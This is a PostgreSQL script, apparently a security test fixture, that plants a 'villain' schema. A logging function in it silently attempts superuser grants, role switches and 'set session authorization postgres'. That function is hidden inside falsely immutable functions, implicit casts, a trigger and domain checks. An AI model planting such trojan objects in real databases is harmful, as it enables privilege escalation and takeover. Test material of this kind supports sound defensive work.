-- The squatter's own code. Wherever it runs it writes to the server's log, which no rollback undoes, as whom it
-- runs, and tries to rise.
create schema villain;
grant usage on schema villain to public;

create function villain.spy(p text) returns text language plpgsql as $$
declare
  v_try text;
begin
  raise log 'SPY % ran as <%> in the session of <%>', p, current_user, session_user;
  foreach v_try in array array['alter role villain superuser', 'alter role villain createrole bypassrls', 'create role risen superuser',
                               'grant keeper to villain', 'set role keeper', 'reset role', 'set session authorization postgres'] loop
    begin
      execute v_try;
    exception when others then
      null;
    end;
  end loop;
  return null;
end $$;
-- What is not so, for where PostgreSQL asks for it.
create function villain.still(p text) returns text language plpgsql immutable as $$ begin return villain.spy(p); end $$;
create function villain.is_fine(p text) returns boolean language plpgsql immutable as $$ begin perform villain.spy(p); return true; end $$;
create function villain.tells() returns trigger language plpgsql as $$
begin
  perform villain.spy('trigger ' || tg_name || ' on ' || tg_table_name);
  return coalesce(new, old);
end $$;
create type villain.word as (text text);
create function villain.as_text(villain.word) returns text language plpgsql immutable as $$ begin perform villain.spy('cast'); return 'ember'; end $$;
create cast (villain.word as text) with function villain.as_text(villain.word) as implicit;
create function villain.of_text(text) returns villain.word language plpgsql immutable as $$ begin perform villain.spy('cast of text'); return row('x'); end $$;
create cast (text as villain.word) with function villain.of_text(text) as implicit;
create domain villain.seed as text check (villain.is_fine('domain'));
create domain villain.identity as uuid check (villain.is_fine('domain of uuid'));
create domain villain.document as jsonb check (villain.is_fine('domain of jsonb'));
